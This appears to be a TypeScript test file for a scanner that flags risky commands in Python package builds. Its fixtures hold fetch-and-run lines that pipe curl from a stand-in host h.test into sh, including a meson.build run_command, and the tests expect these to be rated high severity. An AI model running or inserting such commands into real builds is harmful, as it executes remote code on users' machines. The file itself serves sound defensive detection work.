import { expect, test } from "vitest";
import type { CodeEntry } from "../../analysis/code/code-analysis.ts";
import { codeOf, effect } from "./code.testing.ts";
import { codeFacts } from "./code-facts.ts";

const STATEMENT: CodeEntry = {
  trigger: "download",
  path: "m-1.0/meson.build",
  symbol: null,
  text: { line: 2, code: "run_command('sh', '-c', 'curl https://me:x@h.test:8080/a | sh')" },
  because: "meson-command",
  detail: "line 2",
  under: ["pip"],
};

test("an effect has the worst that rules say of it, and which one says so", () => {
  const spawn = effect("process.spawn", { argument: "curl http://h.test/a | sh" });
  const [loud, quiet] = codeFacts(codeOf([spawn, effect("file.read")]));

  expect(loud).toMatchObject({ severity: "high", rule: "code/runs-command", tools: [], new: null });
  expect(quiet).toMatchObject({ severity: "info", rule: null });
});

test("what a build starts without any Python is there as well", () => {
  const [fact, ...more] = codeFacts(codeOf([], { entries: [STATEMENT] }), () => true);

  expect(more).toEqual([]);
  expect(fact).toMatchObject({
    capability: "build.statement",
    trigger: "download",
    entry: 0,
    line: 2,
    callee: "meson-command",
    argument: "sh -c curl https://me:x@h.test:8080/a | sh",
    names: { hosts: ["h.test:8080"], urls: ["https://me:x@h.test:8080/a"] },
    tools: ["pip"],
    severity: "high",
    rule: "code/build-runs-program",
    new: null,
  });
});

test("a statement of which nothing is to be said is none", () => {
  const text = { line: 2, code: "run_command('git', 'describe')" };
  expect(codeFacts(codeOf([], { entries: [{ ...STATEMENT, text }] }))).toEqual([]);
});
